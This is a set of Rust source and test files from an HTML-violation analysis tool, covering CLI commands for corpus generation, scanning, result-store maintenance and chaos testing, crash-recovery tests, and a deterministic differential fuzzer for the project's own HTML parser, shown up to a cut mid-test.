            eprintln!("fixed document written to {}", path.display());
        }
        None => println!("{}", outcome.fixed_html),
    }
    Ok(())
}

fn gen(
    seed: u64,
    scale: f64,
    out: &Path,
    domains: usize,
    year: Option<u16>,
    warc: bool,
) -> Result<(), String> {
    let archive = Archive::new(CorpusConfig { seed, scale });
    let snaps: Vec<Snapshot> = match year {
        Some(y) => {
            vec![Snapshot::from_year(y).ok_or(format!("--year must be 2015..=2022, got {y}"))?]
        }
        None => Snapshot::ALL.to_vec(),
    };
    fs::create_dir_all(out).map_err(|e| format!("creating {}: {e}", out.display()))?;
    if warc {
        for &snap in &snaps {
            let (warc_path, cdx_path, n) =
                hv_corpus::warc::export_snapshot(&archive, snap, out, domains)
                    .map_err(|e| format!("exporting {snap}: {e}"))?;
            println!(
                "{}: {n} records -> {} + {}",
                snap.crawl_id(),
                warc_path.display(),
                cdx_path.display()
            );
        }
        return Ok(());
    }
    let mut written = 0usize;
    for d in archive.domains().iter().take(domains) {
        for &snap in &snaps {
            let Some(cdx) = archive.cdx_lookup(d, snap) else { continue };
            let dir = out.join(snap.crawl_id()).join(&d.name);
            fs::create_dir_all(&dir).map_err(|e| format!("creating {}: {e}", dir.display()))?;
            for entry in cdx.pages.iter().take(5) {
                let body = archive.fetch(entry);
                let name = if entry.page_index == 0 {
                    "index.html".to_owned()
                } else {
                    format!("page{}.html", entry.page_index)
                };
                fs::write(dir.join(&name), &body.body).map_err(|e| format!("writing page: {e}"))?;
                written += 1;
            }
        }
    }
    println!(
        "wrote {written} pages for {} domains under {}",
        domains.min(archive.domains().len()),
        out.display()
    );
    Ok(())
}

/// Shared scan setup: build the archive and options, narrating to stderr.
fn scan_setup(
    seed: u64,
    scale: f64,
    threads: usize,
    metrics: bool,
    faults: Option<hv_corpus::FaultPlan>,
) -> (Archive, ScanOptions) {
    eprintln!("building archive (seed {seed}, scale {scale}) ...");
    let archive = Archive::new(CorpusConfig { seed, scale });
    eprintln!(
        "scanning {} domains x {} snapshots ...",
        archive.domains().len(),
        Snapshot::ALL.len()
    );
    let mut opts =
        ScanOptions::new().threads(threads).progress_every(20_000).collect_metrics(metrics);
    if let Some(plan) = faults {
        eprintln!("injecting deterministic faults ({}) ...", plan.render());
        opts = opts.inject_faults(plan);
    }
    (archive, opts)
}

/// Scan straight into a v1 binary store, one snapshot segment at a time.
#[allow(clippy::too_many_arguments)]
fn run_scan_streamed(
    seed: u64,
    scale: f64,
    threads: usize,
    metrics: bool,
    faults: Option<hv_corpus::FaultPlan>,
    resume: bool,
    overwrite: bool,
    path: &Path,
) -> Result<(), String> {
    let t0 = Instant::now();
    let (archive, mut opts) = scan_setup(seed, scale, threads, metrics, faults);
    opts = opts.resume(resume).overwrite(overwrite);
    if resume {
        eprintln!("resuming {} ...", path.display());
    }
    let summary = scan_streamed(&archive, &Snapshot::ALL, opts, path)
        .map_err(|e| format!("streamed scan: {e}"))?;
    if summary.resumed_segments > 0 {
        eprintln!(
            "resume: kept {} completed segment(s){}",
            summary.resumed_segments,
            if summary.truncated_bytes > 0 {
                format!(", truncated {} torn-tail byte(s)", summary.truncated_bytes)
            } else {
                String::new()
            }
        );
    }
    eprintln!(
        "scan finished in {:.1}s ({} domain-snapshot records in {} segment(s))",
        t0.elapsed().as_secs_f64(),
        summary.records,
        summary.segments.len()
    );
    if summary.quarantined > 0 {
        eprintln!("faults: {} page(s) quarantined", summary.quarantined);
    }
    if let Some(m) = &summary.metrics {
        eprint!("{}", m.render());
    }
    Ok(())
}

fn run_scan(
    seed: u64,
    scale: f64,
    threads: usize,
    metrics: bool,
    faults: Option<hv_corpus::FaultPlan>,
) -> Result<ResultStore, String> {
    let t0 = Instant::now();
    let (archive, opts) = scan_setup(seed, scale, threads, metrics, faults);
    let store = scan(&archive, opts);
    eprintln!(
        "scan finished in {:.1}s ({} domain-snapshot records)",
        t0.elapsed().as_secs_f64(),
        store.records.len()
    );
    if !store.quarantine.is_empty() {
        let faulted: usize = store.records.iter().map(|r| r.pages_faulted).sum();
        let degraded: usize = store.records.iter().map(|r| r.pages_degraded).sum();
        eprintln!(
            "faults: {faulted} pages faulted, {degraded} degraded, {} quarantined",
            store.quarantine.len()
        );
    }
    if let Some(m) = &store.metrics {
        eprint!("{}", m.render());
    }
    Ok(store)
}

/// `hva chaos`: run the scan under deterministic fault injection at two
/// thread counts and verify the robustness invariants. Non-zero exit (an
/// `Err`) when any invariant fails, so CI can smoke-test robustness.
fn chaos(
    seed: u64,
    scale: f64,
    faults: hv_corpus::FaultPlan,
    threads: usize,
) -> Result<(), String> {
    let t0 = Instant::now();
    eprintln!("building archive (seed {seed}, scale {scale}) ...");
    let archive = Archive::new(CorpusConfig { seed, scale });
    // Single-threaded as the reference, the requested (or all-core) count
    // as the challenger: the pair is what makes thread-invariance a check.
    let thread_counts = [1usize, threads];
    eprintln!(
        "chaos: scanning {} domains under fault injection ({}) at threads {:?} ...",
        archive.domains().len(),
        faults.render(),
        thread_counts
    );
    let report = hv_pipeline::run_chaos(&archive, faults, &Snapshot::ALL, &thread_counts);
    eprintln!("chaos finished in {:.1}s", t0.elapsed().as_secs_f64());
    print!("{}", report.render());
    if report.passed() {
        Ok(())
    } else {
        Err("chaos invariants FAILED".into())
    }
}

fn render_experiment(name: &str, store: &IndexedStore) -> Result<String, String> {
    hv_report::render(name, store)
        .ok_or_else(|| format!("unknown experiment: {name} (try `hva help`)"))
}

/// Surface what a partial load dropped — the report still renders, but
/// the operator must know it is built from a damaged store.
fn warn_dropped(store: &IndexedStore) {
    for d in &store.dropped {
        eprintln!(
            "warning: dropped segment {} at byte {}: {} (results exclude it)",
            d.segment, d.offset, d.detail
        );
    }
}

/// `hva store <action>`: maintenance verbs over saved result stores.
fn store_cmd(action: StoreAction) -> Result<(), String> {
    match action {
        StoreAction::Inspect { file, allow_partial } => {
            let loaded = ResultStore::load_with(&file, LoadOptions { allow_partial })
                .map_err(|e| format!("loading store: {e}"))?;
            let s = &loaded.store;
            println!("{}: {}", file.display(), loaded.format.name());
            println!("  seed       {:#x} ({})", s.seed, s.seed);
            println!("  scale      {}", s.scale);
            println!("  universe   {} domains", s.universe);
            println!("  records    {}", s.records.len());
            println!("  metrics    {}", if s.metrics.is_some() { "embedded" } else { "none" });
            println!("  quarantine {} page(s)", s.quarantine.len());
            if !loaded.segments.is_empty() {
                println!(
                    "  {:<16} {:>8} {:>9} {:>10} {:>11} {:>12} {:>12}",
                    "segment",
                    "records",
                    "analyzed",
                    "violating",
                    "pages-found",
                    "pages-anlzd",
                    "quarantined"
                );
                for seg in &loaded.segments {
                    println!(
                        "  {:<16} {:>8} {:>9} {:>10} {:>11} {:>12} {:>12}",
                        seg.snapshot.crawl_id(),
                        seg.records,
                        seg.domains_analyzed,
                        seg.domains_violating,
                        seg.pages_found,
                        seg.pages_analyzed,
                        seg.pages_quarantined
                    );
                }
            }
            for d in &loaded.dropped {
                println!("  DROPPED segment {} at byte {}: {}", d.segment, d.offset, d.detail);
            }
            Ok(())
        }
        StoreAction::Verify { file } => {
            // Strict load: any framing, checksum, or footer mismatch fails.
            let loaded = ResultStore::load_with(&file, LoadOptions::default())
                .map_err(|e| format!("verify FAILED: {e}"))?;
            println!(
                "OK: {} ({}, {} segment(s), {} record(s), checksums and footers verified)",
                file.display(),
                loaded.format.name(),
                loaded.segments.len(),
                loaded.store.records.len()
            );
            Ok(())
        }
        StoreAction::Migrate { src, dst, to, allow_partial } => {
            let loaded = ResultStore::load_with(&src, LoadOptions { allow_partial })
                .map_err(|e| format!("loading store: {e}"))?;
            for d in &loaded.dropped {
                eprintln!(
                    "warning: dropped segment {} at byte {}: {} (not migrated)",
                    d.segment, d.offset, d.detail
                );
            }
            let target = to.unwrap_or_else(|| StoreFormat::for_path(&dst));
            loaded.store.save_as(&dst, target).map_err(|e| format!("writing store: {e}"))?;
            println!(
                "migrated {} ({}) -> {} ({}), {} record(s)",
                src.display(),
                loaded.format.name(),
                dst.display(),
                target.name(),
                loaded.store.records.len()
            );
            Ok(())
        }
        StoreAction::Export { src, dst, allow_partial } => {
            let loaded = ResultStore::load_with(&src, LoadOptions { allow_partial })
                .map_err(|e| format!("loading store: {e}"))?;
            for d in &loaded.dropped {
                eprintln!(
                    "warning: dropped segment {} at byte {}: {} (not exported)",
                    d.segment, d.offset, d.detail
                );
            }
            loaded.store.save(&dst).map_err(|e| format!("writing JSON: {e}"))?;
            println!(
                "exported {} ({}) -> {} (v0-json), {} record(s)",
                src.display(),
                loaded.format.name(),
                dst.display(),
                loaded.store.records.len()
            );
            Ok(())
        }
    }
}
