//! End-to-end tests of the `hva` binary.

use std::path::PathBuf;
use std::process::Command;

fn hva() -> Command {
    Command::new(env!("CARGO_BIN_EXE_hva"))
}

fn tmpdir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join("hva_cli_tests").join(name);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn help_prints_usage() {
    let out = hva().arg("help").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("USAGE"));
    assert!(text.contains("repro"));
}

#[test]
fn unknown_subcommand_fails_with_usage() {
    let out = hva().arg("frobnicate").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown subcommand"));
}

#[test]
fn check_reports_violations_and_exit_zero() {
    let dir = tmpdir("check");
    let file = dir.join("bad.html");
    std::fs::write(&file, r#"<img src="a.png"alt="x"><div id=a id=b>t</div>"#).unwrap();
    let out = hva().arg("check").arg(&file).output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("FB2"), "{text}");
    assert!(text.contains("DM3"), "{text}");
    assert!(text.contains("auto-fixable"), "{text}");
}

#[test]
fn check_json_is_parseable() {
    let dir = tmpdir("check_json");
    let file = dir.join("bad.html");
    std::fs::write(&file, r#"<img src="a.png"alt="x">"#).unwrap();
    let out = hva().arg("check").arg(&file).arg("--json").output().unwrap();
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("valid JSON");
    assert!(v["findings"].as_array().map(|a| !a.is_empty()).unwrap_or(false));
}

#[test]
fn check_clean_file() {
    let dir = tmpdir("clean");
    let file = dir.join("ok.html");
    std::fs::write(
        &file,
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
    )
    .unwrap();
    let out = hva().arg("check").arg(&file).output().unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("no violations"));
}

#[test]
fn check_missing_file_fails() {
    let out = hva().arg("check").arg("/nonexistent/x.html").output().unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn fix_writes_repaired_output() {
    let dir = tmpdir("fix");
    let src = dir.join("in.html");
    let dst = dir.join("out.html");
    std::fs::write(&src, r#"<body><img src="a.png"alt="x"></body>"#).unwrap();
    let out = hva().arg("fix").arg(&src).arg("-o").arg(&dst).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let fixed = std::fs::read_to_string(&dst).unwrap();
    assert!(fixed.contains(r#"<img src="a.png" alt="x">"#), "{fixed}");
}

#[test]
fn gen_writes_pages() {
    let dir = tmpdir("gen");
    let out = hva()
        .args(["gen", "--scale", "0.001", "--domains", "2", "--year", "2022", "--out"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // At least one index.html exists under the snapshot dir.
    let snap_dir = dir.join("CC-MAIN-2022-05");
    let found = walk_count(&snap_dir, "index.html");
    assert!(found >= 1, "no pages written under {}", snap_dir.display());
}

#[test]
fn gen_warc_roundtrips() {
    let dir = tmpdir("gen_warc");
    let out = hva()
        .args(["gen", "--scale", "0.001", "--domains", "2", "--year", "2021", "--warc", "--out"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let warc = dir.join("CC-MAIN-2021-04.warc");
    let cdx = dir.join("CC-MAIN-2021-04.cdxj");
    assert!(warc.exists() && cdx.exists());
    // The CDX index loads and points at readable records.
    let index = hv_corpus::warc::load_cdxj(&cdx).unwrap();
    assert!(!index.is_empty());
    let mut f = std::fs::File::open(&warc).unwrap();
    let rec = hv_corpus::warc::read_record(&mut f, index[0].offset, index[0].length).unwrap();
    assert_eq!(rec.url, index[0].url);
}

#[test]
fn scan_store_report_roundtrip() {
    let dir = tmpdir("scan");
    let store_path = dir.join("store.json");
    let out = hva()
        .args(["scan", "--scale", "0.002", "--threads", "4", "--store"])
        .arg(&store_path)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(store_path.exists());

    for (experiment, needle) in
        [("fig9", "Figure 9"), ("table2", "Table 2"), ("autofix", "Automatic fixing")]
    {
        let out = hva().args(["report", experiment, "--store"]).arg(&store_path).output().unwrap();
        assert!(out.status.success());
        assert!(
            String::from_utf8_lossy(&out.stdout).contains(needle),
            "{experiment} missing {needle}"
        );
    }

    // Unknown experiment errors cleanly.
    let out = hva().args(["report", "fig99", "--store"]).arg(&store_path).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
}

fn walk_count(dir: &std::path::Path, name: &str) -> usize {
    let mut n = 0;
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                n += walk_count(&p, name);
            } else if p.file_name().map(|f| f == name).unwrap_or(false) {
                n += 1;
            }
        }
    }
    n
}

#[test]
fn explain_single_and_all() {
    let out = hva().args(["explain", "dm2_3"]).output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("DM2_3"));
    assert!(text.contains("behaviour:"));

    let out = hva().args(["explain", "all"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    for id in ["DE1", "FB2", "HF5_3"] {
        assert!(text.contains(id), "missing {id}");
    }

    let out = hva().args(["explain", "XX9"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn scan_warc_end_to_end() {
    let dir = tmpdir("scan_warc");
    // Export a snapshot as WARC, then scan it from disk.
    let out = hva()
        .args(["gen", "--scale", "0.001", "--domains", "4", "--year", "2022", "--warc", "--out"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let store_path = dir.join("warc-store.json");
    let out = hva().args(["scan-warc"]).arg(&dir).arg("--store").arg(&store_path).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(store_path.exists());

    // The saved store renders through the normal report path.
    let out = hva().args(["report", "fig8", "--store"]).arg(&store_path).output().unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("Figure 8"));

    // Empty directories are a clean error.
    let empty = tmpdir("scan_warc_empty");
    let out = hva().args(["scan-warc"]).arg(&empty).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn chaos_verdict_passes() {
    let out = hva()
        .args(["chaos", "--scale", "0.002", "--faults", "9:0.1", "--threads", "4"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("chaos report"));
    assert!(stdout.contains("quarantine-thread-invariant"));
    assert!(stdout.contains("verdict: PASS"));
}

#[test]
fn scan_inject_faults_writes_quarantine() {
    let dir = tmpdir("scan_faults");
    let store_path = dir.join("faulted-store.json");
    let out = hva()
        .args(["scan", "--scale", "0.002", "--threads", "4", "--inject-faults", "9:0.1", "--store"])
        .arg(&store_path)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("injecting deterministic faults"), "{stderr}");
    assert!(stderr.contains("faulted"), "{stderr}");

    let json = std::fs::read_to_string(&store_path).unwrap();
    assert!(json.contains("\"quarantine\""), "faulted store records its quarantine set");

    // A malformed fault spec is a usage error.
    let out = hva().args(["scan", "--inject-faults", "9:2.0"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}
