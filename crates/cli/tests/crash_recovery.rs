//! Kill -9 matrix for `hva scan`: the binary is SIGKILLed at staged byte
//! offsets via the `HV_STORE_CRASH_AFTER` fuse, then `hva scan --resume`
//! must reproduce the uninterrupted store byte for byte.

use std::path::{Path, PathBuf};
use std::process::Command;

/// The crash fuse env var — mirrors
/// `hv_pipeline::format::CRASH_AFTER_ENV`.
const CRASH_AFTER: &str = "HV_STORE_CRASH_AFTER";

const SEED: &str = "99";
const SCALE: &str = "0.002";

fn hva() -> Command {
    Command::new(env!("CARGO_BIN_EXE_hva"))
}

fn tmpdir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join("hva_crash_tests").join(name);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn scan_args(store: &Path) -> Vec<String> {
    vec![
        "scan".into(),
        "--seed".into(),
        SEED.into(),
        "--scale".into(),
        SCALE.into(),
        "--threads".into(),
        "2".into(),
        "--store".into(),
        store.display().to_string(),
    ]
}

#[test]
fn kill_matrix_resume_is_byte_identical() {
    let dir = tmpdir("matrix");
    let full = dir.join("full.hvs");
    std::fs::remove_file(&full).ok();

    let out = hva().args(scan_args(&full)).output().unwrap();
    assert!(out.status.success(), "baseline scan failed: {}", String::from_utf8_lossy(&out.stderr));
    let reference = std::fs::read(&full).unwrap();
    let len = reference.len() as u64;

    // Staged cut points: mid-magic, inside and at the end of the header
    // frame, through the segment run, and inside the trailer.
    let header_end = 12 + u64::from(u32::from_le_bytes(reference[8..12].try_into().unwrap())) + 4;
    let mut points = vec![4, header_end - 2, header_end, len / 4, len / 2, 3 * len / 4, len - 5];
    points.retain(|&p| p < len);
    points.sort_unstable();
    points.dedup();

    for p in points {
        let store = dir.join(format!("crash-{p}.hvs"));
        std::fs::remove_file(&store).ok();

        let out = hva().args(scan_args(&store)).env(CRASH_AFTER, p.to_string()).output().unwrap();
        assert!(!out.status.success(), "fused scan at byte {p} must not survive");
        #[cfg(unix)]
        {
            use std::os::unix::process::ExitStatusExt;
            assert_eq!(out.status.signal(), Some(9), "fuse at byte {p} must SIGKILL");
        }
        assert_eq!(
            std::fs::metadata(&store).unwrap().len(),
            p,
            "the killed store must hold exactly the fused prefix"
        );

        let out = hva().args(scan_args(&store)).arg("--resume").output().unwrap();
        assert!(
            out.status.success(),
            "resume after kill at byte {p} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            std::fs::read(&store).unwrap(),
            reference,
            "resume after kill at byte {p} must be byte-identical to the full scan"
        );
        std::fs::remove_file(&store).ok();
    }
    std::fs::remove_file(&full).ok();
}

#[test]
fn scan_refuses_to_clobber_without_resume_or_overwrite() {
    let dir = tmpdir("clobber");
    let store = dir.join("store.hvs");
    std::fs::remove_file(&store).ok();

    let out = hva().args(scan_args(&store)).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let first = std::fs::read(&store).unwrap();

    // A second plain scan must refuse to destroy the existing store.
    let out = hva().args(scan_args(&store)).output().unwrap();
    assert!(!out.status.success(), "plain rescan must refuse to clobber");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("already exists"), "stderr: {stderr}");
    assert_eq!(std::fs::read(&store).unwrap(), first, "refused scan must not touch the store");

    // --overwrite is the explicit escape hatch.
    let out = hva().args(scan_args(&store)).arg("--overwrite").output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(std::fs::read(&store).unwrap(), first, "same seed, same bytes");

    // Resuming a complete store is a no-op that leaves it intact.
    let out = hva().args(scan_args(&store)).arg("--resume").output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(std::fs::read(&store).unwrap(), first, "resume of a complete store is a no-op");
    std::fs::remove_file(&store).ok();
}

#[test]
fn resume_refuses_v0_json_stores() {
    let dir = tmpdir("v0_resume");
    let store = dir.join("store.json");
    let out = hva().args(scan_args(&store)).arg("--resume").output().unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("requires a v1 binary store"), "stderr: {stderr}");
}
