//! `hv_fuzz` — deterministic differential fuzzing for the
//! html-violations stack (`hva fuzz`).
//!
//! The paper's pipeline rests on a parser and a checker battery whose hot
//! paths have each been rewritten for speed while keeping the original
//! implementation alive as a reference (batched vs scalar tokenizer,
//! fused vs legacy battery, atom vs string predicates). This crate turns
//! those deliberate redundancies into a fuzzer:
//!
//! - [`gen`] — a seeded, structure-aware HTML generator. Every case is a
//!   pure function of `(seed, index)`, built from **pieces** (whole tags,
//!   text runs, comments) over a grammar that reaches tables, select,
//!   template, RCDATA/RAWTEXT, foreign content, and the character-
//!   reference edge space, with tuned misnesting and malformed-syntax
//!   rates.
//! - [`oracle`] — the registry of named invariants checked on every
//!   case: tokenizer equivalence, battery equivalence, serializer
//!   fixpoint, atom agreement, auto-fix soundness, DOM validity, and a
//!   live-server wire check.
//! - [`ddmin`](mod@ddmin) — Zeller delta-debugging, applied first over
//!   generator pieces and then over bytes, shrinking any failure to a
//!   locally minimal reproducer.
//! - [`runner`] — the single-threaded driver tying them together, with
//!   time budgets, an oracle filter, and persistence of minimized
//!   reproducers into `tests/fixtures/regressions/`, which the test
//!   suite replays on every run thereafter.
//!
//! Determinism is the design center: same seed and case count ⇒ identical
//! case bytes and identical verdicts, across runs, machines, and thread
//! counts. A failure report is therefore just two integers plus an
//! oracle name, and `hva fuzz --replay` re-runs any persisted reproducer.

pub mod ddmin;
pub mod gen;
pub mod oracle;
pub mod runner;

pub use ddmin::{ddmin, shrink_bytes};
pub use gen::{case, case_pieces, render};
pub use oracle::{all_oracles, oracles_named, Oracle};
pub use runner::{fuzz, replay, replay_str, FuzzFailure, FuzzOptions, FuzzOutcome};
