//! The fuzz driver: generate → check → minimize → persist.
//!
//! The runner is deliberately **single-threaded**: every case is a pure
//! function of `(seed, index)` and every oracle verdict is a pure
//! function of the case text, so parallelism would buy wall-clock at the
//! price of the determinism guarantee the CLI advertises (same seed and
//! case count ⇒ identical case bytes and identical verdicts, regardless
//! of machine or thread count). Fuzzing throughput here is bounded by
//! the parsers under test, not the driver.
//!
//! On failure the runner shrinks twice — [`crate::ddmin`] over the
//! generator pieces (drops whole tags/comments/text runs along syntactic
//! boundaries), then [`crate::shrink_bytes`] over the survivor — and
//! writes the minimized reproducer into the regression directory, where
//! `tests/fuzz_regressions.rs` replays it on every `cargo test` forever.

use crate::gen;
use crate::oracle::{oracles_named, Oracle};
use crate::{ddmin, shrink_bytes};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Stop collecting after this many distinct failures: past a handful the
/// run is telling you about one bug many times, and minimizing each
/// failure costs thousands of oracle invocations.
const MAX_FAILURES: usize = 5;

/// Configuration for one [`fuzz`] run.
#[derive(Debug, Clone)]
pub struct FuzzOptions {
    /// Corpus seed; every case is `gen::case(seed, index)`.
    pub seed: u64,
    /// Number of cases (indices `0..cases`).
    pub cases: u64,
    /// Optional wall-clock budget; the run stops cleanly at the first
    /// case boundary past it.
    pub time_budget: Option<Duration>,
    /// Restrict to one oracle by registry name (`None` = all).
    pub oracle: Option<String>,
    /// Where minimized reproducers are written (`None` = don't persist).
    pub regress_dir: Option<PathBuf>,
}

impl FuzzOptions {
    pub fn new(seed: u64, cases: u64) -> Self {
        FuzzOptions { seed, cases, time_budget: None, oracle: None, regress_dir: None }
    }
}

/// One minimized failure.
#[derive(Debug, Clone)]
pub struct FuzzFailure {
    /// Registry name of the violated oracle.
    pub oracle: &'static str,
    /// `(seed, index)` of the original failing case.
    pub seed: u64,
    pub index: u64,
    /// The original generated case.
    pub case: String,
    /// The ddmin-minimized reproducer (still fails the same oracle).
    pub minimized: String,
    /// The oracle's message for the *minimized* case.
    pub message: String,
    /// Where the reproducer was persisted, when a directory was given.
    pub fixture: Option<PathBuf>,
}

/// Result of a [`fuzz`] run.
#[derive(Debug)]
pub struct FuzzOutcome {
    /// Indices actually executed (`< cases` when a budget or the failure
    /// cap stopped the run early).
    pub cases_run: u64,
    pub failures: Vec<FuzzFailure>,
    pub elapsed: Duration,
    /// True when the time budget, not the case count, ended the run.
    pub stopped_by_budget: bool,
}

impl FuzzOutcome {
    pub fn ok(&self) -> bool {
        self.failures.is_empty()
    }
}

/// Run the corpus `(seed, 0..cases)` through the oracle registry.
///
/// Returns `Err` only for configuration problems (unknown oracle name,
/// unwritable regression directory); oracle violations are *data*,
/// reported in [`FuzzOutcome::failures`].
pub fn fuzz(opts: &FuzzOptions) -> Result<FuzzOutcome, String> {
    let mut oracles = oracles_named(opts.oracle.as_deref())?;
    if let Some(dir) = &opts.regress_dir {
        std::fs::create_dir_all(dir)
            .map_err(|e| format!("creating regression dir {}: {e}", dir.display()))?;
    }

    let start = Instant::now();
    let mut outcome = FuzzOutcome {
        cases_run: 0,
        failures: Vec::new(),
        elapsed: Duration::ZERO,
        stopped_by_budget: false,
    };
    // One bug usually fails many indices; remember minimized reproducers
    // per oracle so the run reports each distinct bug once.
    let mut seen: std::collections::BTreeSet<(&'static str, String)> =
        std::collections::BTreeSet::new();

    for index in 0..opts.cases {
        if let Some(budget) = opts.time_budget {
            if start.elapsed() >= budget {
                outcome.stopped_by_budget = true;
                break;
            }
        }
        let pieces = gen::case_pieces(opts.seed, index);
        let case = gen::render(&pieces);
        for oracle in &mut oracles {
            let Err(_first_message) = oracle.check(&case) else { continue };
            let mut failure = minimize(oracle.as_mut(), opts.seed, index, &pieces, &case);
            if !seen.insert((failure.oracle, failure.minimized.clone())) {
                continue; // same bug, already minimized and recorded
            }
            if let Some(dir) = &opts.regress_dir {
                failure.fixture = Some(persist(dir, &failure)?);
            }
            outcome.failures.push(failure);
            if outcome.failures.len() >= MAX_FAILURES {
                outcome.cases_run = index + 1;
                outcome.elapsed = start.elapsed();
                return Ok(outcome);
            }
        }
        outcome.cases_run = index + 1;
    }
    outcome.elapsed = start.elapsed();
    Ok(outcome)
}

/// Shrink a failing case: piece-level ddmin first (syntactic boundaries),
/// then byte-level on the survivor. "Fails" means *this oracle rejects
/// the candidate* — the minimizer is allowed to slide from the original
/// symptom to a simpler manifestation of the same invariant violation.
fn minimize(
    oracle: &mut dyn Oracle,
    seed: u64,
    index: u64,
    pieces: &[String],
    case: &str,
) -> FuzzFailure {
    let kept = ddmin(pieces, |candidate| oracle.check(&gen::render(candidate)).is_err());
    let coarse = if kept.is_empty() { case.to_owned() } else { gen::render(&kept) };
    let minimized = shrink_bytes(&coarse, |candidate| oracle.check(candidate).is_err());
    // ddmin guarantees the final candidate still fails; capture its
    // message (not the original's) so fixture provenance matches bytes.
    let message = oracle
        .check(&minimized)
        .err()
        .unwrap_or_else(|| "minimized case stopped failing (flaky oracle?)".to_owned());
    FuzzFailure {
        oracle: oracle.name(),
        seed,
        index,
        case: case.to_owned(),
        minimized,
        message,
        fixture: None,
    }
}

/// Write the minimized reproducer. The file holds the case bytes and
/// nothing else — a header comment would change what gets replayed — so
/// provenance (oracle, seed, index) lives in the file name.
fn persist(dir: &Path, failure: &FuzzFailure) -> Result<PathBuf, String> {
    let path =
        dir.join(format!("{}-seed{}-case{}.html", failure.oracle, failure.seed, failure.index));
    std::fs::write(&path, &failure.minimized)
        .map_err(|e| format!("writing reproducer {}: {e}", path.display()))?;
    Ok(path)
}

/// Replay one reproducer file through the registry (or one named oracle).
/// Returns the violations as `(oracle name, message)` pairs — empty means
/// the bug stayed fixed.
pub fn replay(path: &Path, oracle: Option<&str>) -> Result<Vec<(&'static str, String)>, String> {
    let case = std::fs::read_to_string(path)
        .map_err(|e| format!("reading reproducer {}: {e}", path.display()))?;
    replay_str(&case, oracle)
}

/// [`replay`] over in-memory case text.
pub fn replay_str(case: &str, oracle: Option<&str>) -> Result<Vec<(&'static str, String)>, String> {
    let mut violations = Vec::new();
    for mut oracle in oracles_named(oracle)? {
        if let Err(message) = oracle.check(case) {
            violations.push((oracle.name(), message));
        }
    }
    Ok(violations)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A test oracle failing on a specific substring, to exercise the
    /// minimization pipeline without a real bug in the stack.
    struct Needle(&'static str);

    impl Oracle for Needle {
        fn name(&self) -> &'static str {
            "needle"
        }
        fn describe(&self) -> &'static str {
            "test oracle"
        }
        fn check(&mut self, case: &str) -> Result<(), String> {
            if case.contains(self.0) {
                Err(format!("contains {:?}", self.0))
            } else {
                Ok(())
            }
        }
    }

    #[test]
    fn minimize_shrinks_to_the_needle() {
        let mut oracle = Needle("<table");
        // Find a generated case that actually contains a table.
        let (index, pieces) = (0..5000)
            .map(|i| (i, gen::case_pieces(9, i)))
            .find(|(_, p)| gen::render(p).contains("<table"))
            .expect("corpus produces a table");
        let case = gen::render(&pieces);
        let failure = minimize(&mut oracle, 9, index, &pieces, &case);
        assert_eq!(failure.minimized, "<table", "piece+byte shrink reaches the exact needle");
        assert!(failure.message.contains("<table"));
    }

    #[test]
    fn dom_validity_run_is_deterministic_and_clean() {
        let opts = FuzzOptions {
            oracle: Some("dom-validity".to_owned()),
            ..FuzzOptions::new(0x5EED, 150)
        };
        let a = fuzz(&opts).expect("run a");
        let b = fuzz(&opts).expect("run b");
        assert!(a.ok(), "dom-validity violated: {:?}", a.failures);
        assert_eq!(a.cases_run, 150);
        assert_eq!(a.cases_run, b.cases_run);
        assert_eq!(a.failures.len(), b.failures.len());
    }

    #[test]
    fn unknown_oracle_is_a_configuration_error() {
